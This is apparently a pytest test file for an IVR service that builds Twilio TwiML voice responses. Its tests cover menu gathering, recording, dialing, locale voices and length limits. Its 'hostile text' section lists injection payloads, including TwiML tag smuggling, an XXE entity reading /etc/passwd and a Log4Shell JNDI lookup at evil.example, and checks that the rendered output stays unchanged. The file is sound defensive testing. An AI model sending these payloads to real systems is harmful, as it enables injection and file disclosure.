"""Whatever is said, what goes out is valid TwiML with the same skeleton."""

import pytest
from phone import Reply
from twiml_reader import Document, Verb, read_document
from twiml_rules import WHISPER_VERBS, voice_document

from flows.said import Connect, Gather, GoOn, HangUp, Ring, Said, Sentence, Take
from ivr.tokens import Seal
from ivr.twiml import DOCUMENT_LIMIT, EMPTY, SPEECH_LIMIT, Place, Writer, document
from ivr.urls import Urls

BASE = "https://ivr.example.com"
SID, LINE = "CA" + "1" * 32, "+18888988733"
WRITER = Writer(Urls(BASE, Seal("s" * 32)))
WAITS = [
    Gather(6),
    Gather(10, most=0, finish="#"),
    Take(limit=180, silence=5),
    Ring(1, "+14085550121", 20, 14_400),
    GoOn(),
    HangUp(),
    Connect(),
]


def rendered(wait, *texts: str, leg: int = 0, locale: str = "en-US", play: str = "") -> Document:
    said = Said(locale, tuple(Sentence("key", text) for text in texts), wait, play)
    written = WRITER.render(said, Place(SID, LINE, leg, 3))
    reply = Reply(200, {"content-type": "text/xml; charset=utf-8"}, written)
    return voice_document(reply, BASE, WHISPER_VERBS) if leg else voice_document(reply, BASE)


def skeleton(verb: Verb) -> tuple[object, ...]:
    return verb.name, tuple(sorted(verb.attributes.items())), tuple(skeleton(child) for child in verb.children)


def names(found: Document) -> list[str]:
    return [verb.name for verb in found]


def test_a_menu_is_spoken_inside_the_gather_so_that_a_key_interrupts_it():
    gather, first, second = rendered(Gather(6), "One.", "Two.")

    assert (gather.name, first.text, second.text) == ("Gather", "One.", "Two.")
    assert gather.attributes["timeout"] == "6"
    assert gather.attributes["numDigits"] == "1"
    assert gather.attributes["finishOnKey"] == ""
    assert gather.attributes["actionOnEmptyResult"] == "true"
    assert gather.attributes["method"] == "POST"


def test_an_entry_of_any_length_ends_with_its_key():
    (gather,) = rendered(Gather(10, most=0, finish="#"))

    assert "numDigits" not in gather.attributes
    assert gather.attributes["finishOnKey"] == "#"


def test_an_engineers_silence_is_a_pass():
    """Falling off the end of a whisper would connect, so that a machine would be put through."""
    found = rendered(Gather(10), "Press 1 to accept.", leg=1)

    assert names(found) == ["Gather", "Say", "Hangup"]
    assert next(iter(found)).attributes["actionOnEmptyResult"] == "false"
    assert f".{SID}.1.3k." in next(iter(found)).attributes["action"]


def test_a_recording_ends_by_hash_alone_and_always_leads_on():
    say, record, redirect = rendered(Take(limit=180, silence=5), "After the tone.")

    assert (say.name, record.name, redirect.name) == ("Say", "Record", "Redirect")
    assert redirect.text == record.attributes["action"]
    assert record.attributes["finishOnKey"] == "#"
    assert record.attributes["maxLength"] == "180"
    assert record.attributes["timeout"] == "5"
    assert record.attributes["recordingStatusCallbackEvent"] == "completed absent"


def test_an_engineer_is_shown_our_line_and_asked_first():
    dial, number = rendered(Ring(2, "+14085550121", 20, 14_400))

    assert dial.attributes["callerId"] == LINE
    assert dial.attributes["timeout"] == "20"
    assert dial.attributes["timeLimit"] == "14400"
    assert number.text == "+14085550121"
    assert f".{SID}.2.0a." in number.attributes["url"]
    assert f".{SID}.0.3d." in dial.attributes["action"]


def test_connecting_is_an_empty_document():
    assert WRITER.render(Said("en-US", (), Connect()), Place(SID, LINE, 1, 2)) == EMPTY


def test_a_take_is_played_before_the_words_and_keys_work_meanwhile():
    recording = "RE" + "3" * 32
    gather, play, say = rendered(Gather(6), "To send it, press 1.", play=recording)

    assert (gather.name, play.name, say.name) == ("Gather", "Play", "Say")
    assert play.text.startswith(f"{BASE}/voice/take/1.{SID}.{recording}.")


@pytest.mark.parametrize(
    ("locale", "voice"),
    [("en-US", "Polly.Joanna-Neural"), ("en-GB", "Polly.Amy-Neural"), ("en-AU", "Polly.Olivia-Neural")],
)
def test_each_locale_has_one_voice(locale, voice):
    say, _ = rendered(HangUp(), "Goodbye.", locale=locale)

    assert say.attributes == {"voice": voice, "language": locale}


def test_a_voice_can_be_replaced():
    other = Writer(Urls(BASE, Seal("s" * 32)), {"en-GB": "Polly.Emma-Neural"})

    assert 'voice="Polly.Emma-Neural" language="en-GB"' in other.spoken("en-GB", "Hello.")
    assert 'voice="Polly.Joanna-Neural"' in other.spoken("en-US", "Hello.")


# --- hostile text


PAYLOADS = [
    "</Say><Dial>+19005551234</Dial><Say>",
    "<Redirect>https://evil.example/</Redirect>",
    "]]></Say><Hangup/>",
    "<![CDATA[<Hangup/>]]>",
    "<!-- --><Hangup/>",
    '"/><Hangup x="',
    "' onfocus='1",
    "&lt;Hangup/&gt;",
    "&#60;Hangup/&#62;",
    "&xxe;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<?xml version='1.0'?>",
    "<speak><break time='10s'/></speak>",
    '<say-as interpret-as="digits">1</say-as>',
    "\x00\x0b\x1b\x7f\x85",
    "\ufffe\uffff\ud800\udfff",
    "\u202e\u2028\u2029",
    "%3CHangup%3E",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
]
PREFIXES = ["", "Acme ", "&", "<", '"', "'", "é", "\U0001f600", "0" * 50, "\n", "\t", " ", ">" * 9, "<" * 9]
SUFFIXES = ["", " Ltd"]
HOSTILE = [prefix + payload + suffix for payload in PAYLOADS for prefix in PREFIXES for suffix in SUFFIXES]


@pytest.mark.parametrize("wait", WAITS, ids=repr)
def test_no_text_changes_the_skeleton(wait):
    """More than five hundred payloads: the same verbs with the same attributes as for a harmless word."""
    harmless = [skeleton(verb) for verb in rendered(wait, "Acme").verbs]

    for payload in HOSTILE:
        assert [skeleton(verb) for verb in rendered(wait, payload).verbs] == harmless, payload
    assert len(HOSTILE) >= 500


def test_no_number_line_or_locale_changes_the_skeleton():
    for payload in HOSTILE:
        ring = Ring(1, payload, 20, 100)
        written = WRITER.render(Said(payload, (Sentence("key", "x"),), ring), Place(SID, payload, 0, 1))
        assert names(read_document(written)) == ["Say", "Dial", "Number"], payload


def test_every_code_point_passes_or_is_left_out():
    """All of the basic plane one by one, and a thousand beyond it."""
    points = [*range(0x10000), *range(0x10000, 0x110000, 1024)]
    for start in range(0, len(points), 512):
        block = "".join(map(chr, points[start : start + 512]))
        say, _ = rendered(HangUp(), f"a{block}b")
        assert say.text[0] + say.text[-1] == "ab"
    for point in points[:0x300]:
        rendered(HangUp(), chr(point) + ".")


@pytest.mark.parametrize("text", ['AT&T <Ltd> "it\'s"', "日本語 Ünïcode 😀"])
def test_what_may_be_said_is_said_unchanged(text):
    say, _ = rendered(HangUp(), text)

    assert say.text == text


def test_a_sentence_is_as_long_as_a_voice_takes():
    say, _ = rendered(HangUp(), "&" * 10_000)

    assert say.text == "&" * SPEECH_LIMIT


def test_a_document_that_would_be_too_long_keeps_its_wait_and_loses_its_words():
    """Sixty-four kilobytes is the most that Twilio takes; the call matters more than the sentence."""
    found = rendered(Gather(6), *["<" * 3000] * 20)

    assert names(found) == ["Gather"]
    assert len(found.text) < DOCUMENT_LIMIT


def test_nothing_stands_before_the_declaration():
    assert document("<Hangup/>").startswith(b'<?xml version="1.0" encoding="UTF-8"?><Response>')
